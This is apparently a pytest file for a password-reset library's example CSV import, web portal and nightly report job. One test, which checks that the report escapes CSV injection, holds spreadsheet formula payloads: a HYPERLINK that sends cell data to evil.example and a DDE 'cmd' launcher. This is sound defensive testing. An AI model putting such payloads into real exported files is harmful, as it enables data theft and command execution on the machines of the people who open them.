"""The examples in examples/python run: the CSV import against a real file with good and bad
rows (as a script and as a function), and the FastAPI portal (sspr.contrib.fastapi) through a whole reset."""

from __future__ import annotations

import csv
import json
import pathlib
import re
import subprocess
import sys
from typing import Any, Dict, List, Optional, Tuple

import pytest

import sspr
from conftest import KEY

EXAMPLES = pathlib.Path(__file__).resolve().parents[2] / "examples" / "python"
sys.path.insert(0, str(EXAMPLES))

import import_contacts  # noqa: E402
import portal  # noqa: E402

USERS = [
    {"login": "ann@example.org", "display_name": "Ann Archer", "dn": "uid=ann,ou=staff,dc=example,dc=org"},
    {"login": "ben@example.org", "display_name": "Ben Baker", "dn": "uid=ben,ou=staff,dc=example,dc=org"},
    {"login": "cid@example.org", "display_name": "Cid Cook", "dn": "uid=cid,ou=staff,dc=example,dc=org"},
    {"login": "dee@example.org", "display_name": "Dee Dean", "dn": "uid=dee,ou=staff,dc=example,dc=org",
     "groups": ["Domain Admins"]},
]

CSV = """login,email,phone
ann@example.org,ann@home.example,+44 7400 900001
ben@example.org,not-an-address,
nobody@example.org,nobody@home.example,
cid@example.org,cid@home.example,12
dee@example.org,dee@home.example,
,x@home.example,
  BEN@example.org ,ben@home.example,
"""


def test_csv_import_script_reports_and_skips_bad_rows(tmp_path: pathlib.Path) -> None:
    (tmp_path / "users.json").write_text(json.dumps(USERS))
    (tmp_path / "users.csv").write_text(CSV)
    db = tmp_path / "sspr.db"
    proc = subprocess.run(
        [sys.executable, str(EXAMPLES / "import_contacts.py"), str(tmp_path / "users.csv"),
         "--admin", "alice", "--directory", str(tmp_path / "users.json"), "--contacts-db", str(db)],
        capture_output=True, text=True, timeout=60,
    )
    assert proc.returncode == 1, proc.stderr
    lines = proc.stdout.splitlines()
    assert lines[0] == "line 2: ann@example.org: enabled, contacts a***@h***.example, +44 ******* 01"
    assert lines[1].startswith("line 3: ben@example.org: skipped: invalid email")
    assert lines[2] == "line 4: nobody@example.org: skipped: no such user in the directory"
    assert lines[3].startswith("line 5: cid@example.org: skipped: invalid phone")
    assert lines[4] == "line 6: dee@example.org: skipped: not allowed (privileged)"
    assert lines[5].startswith("line 7: (empty): skipped: invalid login")
    assert lines[6] == "line 8: BEN@example.org: enabled, contacts b***@h***.example"
    assert lines[7] == "2 imported, 5 skipped"

    # The enrollments are in the database: exactly the good rows.
    directory = sspr.MemoryDirectory.from_json(json.dumps(USERS))
    store = sspr.backends.SqliteStore(db)
    engine = sspr.BlockingSspr(directory, sspr.Outbox(), secret_key=KEY, contacts=store)
    assert [engine.status(u["login"]).enabled for u in USERS] == [True, True, False, False]
    assert engine.contacts("ann@example.org").phone is not None
    assert engine.status("cid@example.org").email_masked is None


def test_csv_import_changes_nothing_for_a_bad_row() -> None:
    directory = sspr.MemoryDirectory.from_json(json.dumps(USERS))
    engine = sspr.BlockingSspr(directory, sspr.Outbox(), secret_key=KEY)
    rows = [
        {"login": "ann@example.org", "email": "ann@home.example", "phone": "+44 7400 900001"},
        {"login": "cid@example.org", "email": "cid@home.example", "phone": "12"},  # bad phone
        {"login": "ben@example.org", "email": "ben@home.example", "phone": ""},
    ]
    results = import_contacts.import_rows(engine, rows, "alice")
    assert [r.ok for r in results] == [True, False, True]
    cid = engine.status("cid@example.org")
    assert not cid.enabled and cid.email_masked is None, "a bad row was half imported"
    assert engine.status("ann@example.org").enabled and engine.status("ben@example.org").email_masked


def test_csv_import_usage_errors(tmp_path: pathlib.Path) -> None:
    (tmp_path / "users.json").write_text(json.dumps(USERS))
    (tmp_path / "bad.csv").write_text("user,mail\nann@example.org,a@b.example\n")
    assert import_contacts.main([str(tmp_path / "bad.csv"), "--admin", "a", "--directory", str(tmp_path / "users.json")]) == 2
    assert import_contacts.main([str(tmp_path / "missing.csv"), "--admin", "a", "--directory", str(tmp_path / "users.json")]) == 2


def test_portal_runs_a_whole_reset() -> None:
    from fastapi.testclient import TestClient

    engine, outbox = portal.demo_engine()
    client = TestClient(portal.create_app(engine, outbox))
    start = client.get("/")  # redirected to the router's pages
    assert start.status_code == 200 and "Reset your password" in start.text
    csrf = re.search(r"name='csrf' value='([^']+)'", start.text)
    assert csrf is not None

    page = client.post("/password/begin", data={"csrf": csrf[1], "login": "jdoe@example.org"})
    assert page.status_code == 200 and "j***@h***.example" in page.text
    flow = client.cookies.get("sspr_flow")
    assert flow and flow not in page.text  # the flow id stays in its HttpOnly cookie
    # An unknown login gets a page of the same shape (in a browser of its own).
    other = TestClient(portal.create_app(engine, outbox))
    token = re.search(r"name='csrf' value='([^']+)'", other.get("/").text)
    assert token is not None
    decoy = other.post("/password/begin", data={"csrf": token[1], "login": "nobody@example.org"})
    assert decoy.status_code == 200 and "Where should we send your one-time code?" in decoy.text
    # Its masked address has the demo's TLD too, not a real-world one that would give it away.
    assert re.search(r"E-mail to \w\*\*\*@\w\*\*\*\.example<", decoy.text), decoy.text

    assert "Enter your code" in client.post("/password/send", data={"csrf": csrf[1], "method": "email"}).text
    wrong = client.post("/password/verify", data={"csrf": csrf[1], "pin": "00000000"})
    assert wrong.status_code == 400 and "4 attempts left" in wrong.text
    pin = outbox.last_pin_to("jane@home.example")
    assert pin is not None
    verified = client.post("/password/verify", data={"csrf": csrf[1], "pin": pin.reveal()})
    assert "Code accepted" in verified.text
    done = client.post("/password/complete", data={"csrf": csrf[1], "mode": "temporary"})
    shown = re.search(r"<code id='temporary-password'>([^<]+)</code>", done.text)
    assert shown is not None
    import html

    temporary = html.unescape(shown[1])
    signed = engine.blocking().sign_in("jdoe@example.org", temporary)
    assert signed.must_change
    client.cookies.set("sspr_flow", flow, path="/password")  # replayed after the cookie was cleared
    again = client.post("/password/complete", data={"csrf": csrf[1], "mode": "temporary"})
    assert again.status_code in (409, 410)
    assert client.post("/password/begin", data={"csrf": csrf[1], "login": "\x00"}).status_code == 400
    assert "jane@home.example" in client.get("/dev/outbox").text


# ---------------------------------------------------------------------------------------
def test_portal_writes_every_audit_event_before_it_stops() -> None:
    """A deployment's ``create_app(engine)`` with a queued audit sink (``from_config``'s): when the server stops
    (a restart, a deploy) the events still queued died with the process. ``reset_router``'s own lifespan now ends
    with ``flush_deliveries()`` and ``flush_audit()`` (the example app has none of its own, as a new user's app
    would not): here a sink taking 200 ms an event has them all when it ends."""
    import time

    from fastapi.testclient import TestClient

    from conftest import JsonEndpoint

    def slow(path: str, headers: Dict[str, str], body: bytes) -> Tuple[int, Any]:
        time.sleep(0.2)
        return 200, {}

    sink = JsonEndpoint(slow)
    try:
        b = sspr.backends.from_config({"audit": {"kind": "webhook", "url": f"{sink.url}/audit", "key": "k" * 32}})
        assert b.audit is not None and b.memory_directory is not None
        b.memory_directory.add("jdoe@example.org", "Jane Doe", "uid=jdoe,ou=staff,dc=example,dc=org")
        engine = sspr.Sspr(b.directory, b.notifier, secret_key=KEY, audit=b.audit, policy=sspr.Policy(min_response_ms=0))
        with TestClient(portal.create_app(engine)) as client:
            token = re.search(r"name='csrf' value='([^']+)'", client.get("/").text)
            assert token is not None
            for login in ("jdoe@example.org", "nobody@example.org", "someone@example.org"):
                assert client.post("/password/begin", data={"csrf": token[1], "login": login}).status_code == 200
        kinds = [json.loads(body).get("kind") for _, _, body in sink.requests]
        assert kinds.count("reset_requested") == 3, kinds
    finally:
        sink.close()


# The nightly registration job (examples/python/nightly_registration.py), run as a new user
# runs it: a subprocess on the portal's TOML file, its data directory and its secret key.

NIGHTLY = EXAMPLES / "nightly_registration.py"
STAFF = "ou=staff,dc=example,dc=org"
DEMO_USERS = [
    {"login": "jane.doe@example.org", "display_name": "Jane Doe", "dn": "uid=jane.doe,ou=staff,dc=example,dc=org",
     "mail": "jane.doe@example.org"},
    {"login": "max.mustermann@example.org", "display_name": "Max Mustermann",
     "dn": "uid=max.mustermann,ou=staff,dc=example,dc=org", "mail": "max.mustermann@example.org"},
    {"login": "bob.builder@example.org", "display_name": "Bob Builder", "dn": "uid=bob.builder,ou=staff,dc=example,dc=org"},
    {"login": "root.admin@example.org", "display_name": "Root Admin", "dn": "uid=root.admin,ou=staff,dc=example,dc=org",
     "groups": ["cn=Domain Admins,ou=groups,dc=example,dc=org"], "mail": "root.admin@example.org"},
    {"login": "carol.contractor@example.org", "display_name": "Carol Contractor",
     "dn": "uid=carol,ou=contractors,dc=example,dc=org", "mail": "carol@example.org"},
]
KEY_HEX = KEY.hex()
POLICY = f"""
[policy]
eligible_ous = ["{STAFF}"]
registration_url = "https://sspr.example.org/passwordnotification"
min_response_ms = 0
"""


def nightly(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, str(NIGHTLY), *args], capture_output=True, text=True, timeout=120)


def portal_data_dir(tmp_path: pathlib.Path) -> pathlib.Path:
    """The portal's data directory: its secret key, as the portal writes it."""
    data = tmp_path / "data"
    data.mkdir()
    (data / "secret.key").write_text(KEY_HEX + "\n")
    return data


def demo_portal(tmp_path: pathlib.Path, users: List[Dict[str, Any]] = DEMO_USERS, top: str = "",
                tables: str = "") -> Tuple[pathlib.Path, pathlib.Path]:
    """A portal's data directory and its ``portal.toml``: ``users`` in the demo directory, the SQLite store in the
    data directory and ``POLICY``; ``top`` goes before the tables, ``tables`` after the store's."""
    data = portal_data_dir(tmp_path)
    (tmp_path / "demo-users.json").write_text(json.dumps(users))
    config = tmp_path / "portal.toml"
    config.write_text(top + '[directory]\nkind = "demo"\nseed_file = "demo-users.json"\n'
                      f'[store]\nkind = "sqlite"\npath = "{data / "sspr.sqlite"}"\n' + tables + POLICY)
    return data, config


def enable_as_the_admins_did(data: pathlib.Path, contacts: Dict[str, Optional[str]]) -> None:
    """What the demo portal's admins did, in its store: enable each login, and register its e-mail if it has one."""
    store = sspr.backends.SqliteStore(data / "sspr.sqlite")
    portal_engine = sspr.BlockingSspr(
        sspr.MemoryDirectory.from_json(json.dumps(DEMO_USERS)), sspr.Outbox(), secret_key=KEY_HEX,
        contacts=store, store=store, policy=sspr.Policy(min_response_ms=0, eligible_ous=[STAFF]),
    )
    for login, email in contacts.items():
        portal_engine.set_enabled(login, True, admin="helpdesk")
        if email is not None:
            portal_engine.update_contacts(login, email=email, admin="helpdesk")


def test_nightly_job_on_the_demo_data_writes_the_report_and_reminds_once(tmp_path: pathlib.Path) -> None:
    # `listen`: a portal setting the job does not need, ignored.
    data, config = demo_portal(tmp_path, top='listen = "127.0.0.1:8080"\n')
    # jane registered, max enabled without contacts.
    enable_as_the_admins_did(data, {"jane.doe@example.org": "jane@private.example", "max.mustermann@example.org": None})

    report = tmp_path / "registration.csv"
    args = ["--config", str(config), "--data-dir", str(data), "--report", str(report), "--ou", STAFF, "--remind"]
    first = nightly(*args)
    assert first.returncode == 0, first.stderr
    lines = first.stdout.splitlines()
    assert lines[0] == (
        f"report: {report}: 4 users: 2 enabled, 1 registered, 1 without contacts, 0 with stale contacts "
        "(>365 days), 1 never used, 0 blocked, 1 privileged, 1 without a mailbox"
    ), lines
    assert "reminded: max.mustermann@example.org" in lines
    assert lines[-1] == ("outbox (not sent): to max.mustermann@example.org: "
                         "Register contact details for resetting your password"), lines
    rows = list(csv.DictReader(report.open()))
    assert [r["login"] for r in rows] == [
        "bob.builder@example.org", "jane.doe@example.org", "max.mustermann@example.org", "root.admin@example.org"]
    by_login = {r["login"]: r for r in rows}
    assert by_login["max.mustermann@example.org"]["without_contacts"] == "True"
    assert by_login["jane.doe@example.org"]["email"] == "j***@p***.example", "masked in the file"
    assert "jane@private.example" not in report.read_text()
    assert by_login["root.admin@example.org"]["privileged"] == "True"

    # The next night (or the same night, twice): the report again, nobody mailed twice.
    second = nightly(*args)
    assert second.returncode == 0, second.stderr
    assert not any(line.startswith("reminded:") for line in second.stdout.splitlines()), second.stdout
    assert "reminders: 0 sent, 1 already reminded, 0 without a mailbox, 0 privileged (never reminded), " \
           "0 cannot register, 0 failed" in second.stdout

    # Report only, and bad input: a named field, exit status 2, the old report left alone.
    assert nightly(*args[:-1]).returncode == 0
    before = report.read_text()
    bad = nightly(*args[:-1], "--stale-after-days", "0")
    assert bad.returncode == 2 and "stale_after_days" in bad.stderr, bad.stderr
    bad = nightly("--config", str(config), "--data-dir", str(data), "--report", str(report), "--ou", "staff")
    assert bad.returncode == 2 and "ous" in bad.stderr, bad.stderr
    assert report.read_text() == before
    missing_key = nightly("--config", str(config), "--data-dir", str(tmp_path), "--report", str(report))
    assert missing_key.returncode == 2 and "secret key" in missing_key.stderr


def test_nightly_report_cells_cannot_run_as_spreadsheet_formulas(tmp_path: pathlib.Path) -> None:
    """An admin opens the report in a spreadsheet. A display name is the directory's, and in many directories the
    user's own to write (OpenLDAP's common `by self write`): `=HYPERLINK(...)` there ran as a formula in the admin's
    spreadsheet (CSV injection, OWASP). Every cell a spreadsheet would read as a formula now starts with `'`."""
    hostile = [
        {"login": "eve@example.org", "display_name": '=HYPERLINK("https://evil.example/?d="&A2,"Open")',
         "dn": "uid=eve,ou=staff,dc=example,dc=org"},
        {"login": "@sum(1+1)@example.org", "display_name": "+1+cmd|' /C calc'!A0",
         "dn": "uid=sum,ou=staff,dc=example,dc=org"},
        {"login": "tab@example.org", "display_name": "\t=1+1", "dn": "uid=tab,ou=staff,dc=example,dc=org"},
        {"login": "ok@example.org", "display_name": "Ann-Marie O'Neil", "dn": "uid=ok,ou=staff,dc=example,dc=org"},
    ]
    data, config = demo_portal(tmp_path, users=hostile)
    report = tmp_path / "r.csv"
    done = nightly("--config", str(config), "--data-dir", str(data), "--report", str(report), "--ou", STAFF)
    assert done.returncode == 0, done.stderr
    rows = {r["display_name"]: r for r in csv.DictReader(report.open())}
    for cells in rows.values():
        for name, value in cells.items():
            assert not value or value[0] not in "=+-@\t\r", f"{name}: {value!r} runs as a formula"
    assert "'=HYPERLINK(\"https://evil.example/?d=\"&A2,\"Open\")" in rows
    assert rows["'+1+cmd|' /C calc'!A0"]["login"] == "'@sum(1+1)@example.org"
    assert "'\t=1+1" in rows
    assert rows["Ann-Marie O'Neil"]["login"] == "ok@example.org", "plain text is left as it is"


def test_nightly_job_without_a_registration_url_says_so(tmp_path: pathlib.Path) -> None:
    data = portal_data_dir(tmp_path)
    config = tmp_path / "portal.toml"
    config.write_text(f'[store]\nkind = "sqlite"\npath = "{data / "sspr.sqlite"}"\n')
    proc = nightly("--config", str(config), "--data-dir", str(data), "--report", str(tmp_path / "r.csv"), "--remind")
    assert proc.returncode == 2 and "registration_url" in proc.stderr, proc.stderr
    assert (tmp_path / "r.csv").exists(), "the report is written before the reminders are refused"


def test_nightly_job_leaves_its_audit_events_with_a_slow_sink(tmp_path: pathlib.Path) -> None:
    """The job is a process that exits when done; the configured audit sink sits behind a queue. Behind a sink slower
    than the job (a webhook answering in 300 ms here) the events still queued died with the process: the report's
    and the reminder's events never reached the trail. The job now flushes deliveries and the audit queue."""
    import time

    from conftest import JsonEndpoint

    def slow(path: str, headers: Dict[str, str], body: bytes) -> Tuple[int, Any]:
        time.sleep(0.3)
        return 200, {}

    sink = JsonEndpoint(slow)
    try:
        data, config = demo_portal(
            tmp_path, tables=f'[audit]\nkind = "webhook"\nurl = "{sink.url}/audit"\nkey = "{"k" * 32}"\n')
        enable_as_the_admins_did(data, {"max.mustermann@example.org": None})
        done = nightly("--config", str(config), "--data-dir", str(data), "--report", str(tmp_path / "r.csv"),
                       "--ou", STAFF, "--remind")
        assert done.returncode == 0, done.stderr
        kinds = [json.loads(body).get("kind") for _, _, body in sink.requests]
        assert kinds == ["enrollment_report", "reminder_sent"], kinds
    finally:
        sink.close()

